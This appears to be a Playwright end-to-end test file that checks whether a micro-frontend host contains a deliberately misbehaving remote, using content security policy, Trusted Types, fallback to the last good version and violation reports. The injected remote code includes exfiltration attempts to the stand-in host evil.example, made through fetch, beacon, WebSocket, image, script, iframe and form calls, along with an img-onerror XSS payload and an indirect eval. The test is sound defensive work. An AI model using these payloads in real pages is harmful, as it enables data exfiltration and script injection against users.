import { randomUUID } from 'node:crypto';
import type { DiscoveryDocument } from 'shared-contracts/discovery';
import { origins } from '../stage/addresses';
import { publishChanged, registry } from '../stage/changed-remote';
import { createOwnerSetup } from '../stage/owner-setup';
import { expect, test } from '../stage/owner';
import { screenHeading } from '../stage/screen';

/** The misbehaviors that a test can switch on in the changed remote. */
type Attack = 'shells-fact' | 'misfit' | 'style' | 'markup' | 'stray' | 'leak' | 'loop';
declare global {
  var attack: ((what: Attack) => void) | undefined;
}

const channel = `misbehaving-${randomUUID().slice(0, 8)}`;
const why = ['--reason', 'a journey'];
const lifecycles = 'export const { declaration, bootstrap, mount, unmount } = defineRemote(';
const misbehaving = `
const misbehaving: typeof defineRemote = (...args) => {
  const sound = defineRemote(...args);
  const attacks = (emit: any) => ({
    'shells-fact': () => emit('back/chosen', {}),
    misfit: () => emit('services/finished', { starred: 'many' }),
    style: () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'h1 { letter-spacing: 9px !important }' })),
    stray: () => void setTimeout(() => Promise.reject(new TypeError('sam@example.com'))),
    loop: () => void setTimeout(() => {
      for (const end = performance.now() + 2500; performance.now() < end;);
    }),
    // Later: the debugger that calls this may use eval.
    leak: () => void setTimeout(() => {
      const to = 'https://evil.example/';
      const tried = (act: () => unknown) => {
        try { Promise.resolve(act()).catch(() => undefined); } catch { /* Refused: reported. */ }
      };
      tried(() => fetch(to + 'fetch'));
      tried(() => navigator.sendBeacon(to + 'beacon', 'x'));
      tried(() => new WebSocket('wss://evil.example/socket'));
      tried(() => (0, eval)('window.taken = 1'));
      tried(() => new Worker(URL.createObjectURL(new Blob(['']))));
      tried(() => navigator.serviceWorker.register('/worker.js'));
      tried(() => { new Image().src = to + 'image'; });
      tried(() => { new Image().src = 'https://script.googleusercontent.com/image'; });
      tried(() => document.body.append(Object.assign(document.createElement('script'), { src: to })));
      tried(() => document.body.append(Object.assign(document.createElement('iframe'), { src: to + 'frame' })));
      const form = Object.assign(document.createElement('form'), { action: to + 'form', method: 'post' });
      tried(() => { document.body.append(form); form.submit(); });
    }),
    markup: () => { document.body.innerHTML = '<img src="x" onerror="window.taken = 1">'; },
  });
  return {
    ...sound,
    async mount(props) {
      if (window.name === 'hang') return new Promise(() => undefined);
      await sound.mount(props);
      const acts: Record<string, () => void> = attacks((props as any).emit);
      (globalThis as any).attack = (what: string) => acts[what]!();
    },
  };
};
export const { declaration, bootstrap, mount, unmount } = misbehaving(`;

test(
  'protects the page and the typed text from a misbehaving remote',
  { tag: '@ci' },
  async ({ page, context, owner, request }) => {
    // A separate build, on a machine that may be busy.
    test.setTimeout(600_000);
    const change = { file: 'src/app.tsx', from: lifecycles, to: misbehaving };
    const { version } = await publishChanged('mf-services', change);
    const answer = await request.get(`${origins.REGISTRY_ORIGIN}/discovery/production.json`);
    const { microFrontends } = (await answer.json()) as DiscoveryDocument;
    const lastGood = microFrontends['mf-services']![0]!.metadata.version;
    await createOwnerSetup(context.request, owner).withBusiness();
    await registry('swap', 'mf-services', lastGood, '--channel', channel, ...why);
    await registry('swap', 'mf-services', version, '--channel', channel, ...why);

    const title = screenHeading(page);
    const loadedAgain = page.getByText('This step had a problem, so we loaded it again.');
    const attack = (what: Attack) => page.evaluate((act) => globalThis.attack?.(act), what);
    const opens = async () => {
      await page.goto(`/services?channel=${channel}`);
      await expect(title).toHaveText('Star the services on which you want more leads');
      await expect.poll(() => page.evaluate(() => typeof globalThis.attack)).toBe('function');
    };

    for (const what of ['shells-fact', 'misfit'] as const) {
      await test.step(`${what}: the last good version takes over, on the same screen`, async () => {
        await opens();
        await attack(what);
        await expect(loadedAgain).toBeVisible();
        await expect(title).toHaveText('Star the services on which you want more leads');
        await expect(page).toHaveURL(({ pathname }) => pathname === '/services');
      });
    }

    await test.step('style: its changes to the page are removed with it', async () => {
      await opens();
      await attack('style');
      await expect(title).toHaveCSS('letter-spacing', '9px');
      await attack('misfit');
      await expect(loadedAgain).toBeVisible();
      await expect(title).not.toHaveCSS('letter-spacing', '9px');
    });

    await test.step('markup: the browser refuses it, and the report names remote and version', async () => {
      await opens();
      const reported = page.waitForRequest((sent) => sent.url().endsWith('/violations'));
      await expect(attack('markup')).rejects.toThrow(/TrustedHTML/);
      const report = await reported;
      expect(report.postData()).toContain(`/remotes/mf-services/${version}/`);
      const taken = await page.evaluate(() => 'taken' in window);
      expect(taken).toBe(false);
    });

    await test.step('leak: no request leaves, no foreign code runs, and each report names the remote', async () => {
      const arrived: string[] = [];
      await context.route(/evil\.example|script\.googleusercontent/, (route) => {
        arrived.push(route.request().url());
        return route.abort();
      });
      const reports: Record<string, string>[] = [];
      page.on('request', (sent) => {
        if (!sent.url().endsWith('/violations')) return;
        const body = JSON.parse(sent.postData() ?? '{}') as Record<string, Record<string, string>>;
        if (body['csp-report']) reports.push(body['csp-report']);
      });
      await opens();
      await attack('leak');

      const refused = () =>
        [
          ...new Set(
            reports.map(
              (violation) => `${violation['effective-directive']} ${violation['blocked-uri']}`,
            ),
          ),
        ].sort();
      await expect
        .poll(refused)
        .toStrictEqual([
          'connect-src https://evil.example/beacon',
          'connect-src https://evil.example/fetch',
          'connect-src wss://evil.example/socket',
          'form-action https://evil.example/form',
          'frame-src https://evil.example',
          'img-src https://evil.example/image',
          'img-src https://script.googleusercontent.com/image',
          'require-trusted-types-for trusted-types-sink',
        ]);
      expect(arrived).toStrictEqual([]);
      const taken = await page.evaluate(() => 'taken' in window);
      expect(taken).toBe(false);
      const code = `/remotes/mf-services/${version}/`;
      for (const { 'source-file': source = '', 'document-uri': documentUri } of reports) {
        expect(source ? source.includes(code) : new URL(documentUri!).pathname).toBe(
          source ? true : '/services',
        );
      }
    });

    await test.step('loop: code that blocks the page for seconds is reported with remote and version', async () => {
      await opens();
      const reported = page.waitForRequest((sent) => sent.url().endsWith('/violations'));
      await attack('loop');
      const body = (await reported).postData();
      expect(body).toContain('"kind":"blocked","name":"for_3_s"');
      expect(body).toContain(`/remotes/mf-services/${version}/`);
    });

    await test.step('stray: an unhandled rejection is reported with remote and version, without its text', async () => {
      await opens();
      const body = await page.evaluate(async () => {
        const { sendBeacon } = navigator;
        const body = new Promise<string>((resolve) => {
          navigator.sendBeacon = (to, sent) => {
            if (String(to) === '/violations') void (sent as Blob).text().then(resolve);
            return sendBeacon.call(navigator, to, sent);
          };
        });
        globalThis.attack?.('stray');
        return body;
      });
      expect(body).toContain(`/remotes/mf-services/${version}/`);
      expect(body).not.toContain('sam@example.com');
    });

    await test.step('hang: after eight seconds the last good version is shown', async () => {
      await page.evaluate(() => void (window.name = 'hang'));
      await page.goto(`/services?channel=${channel}`);
      await expect(title).toHaveText('Star the services on which you want more leads');
    });
  },
);
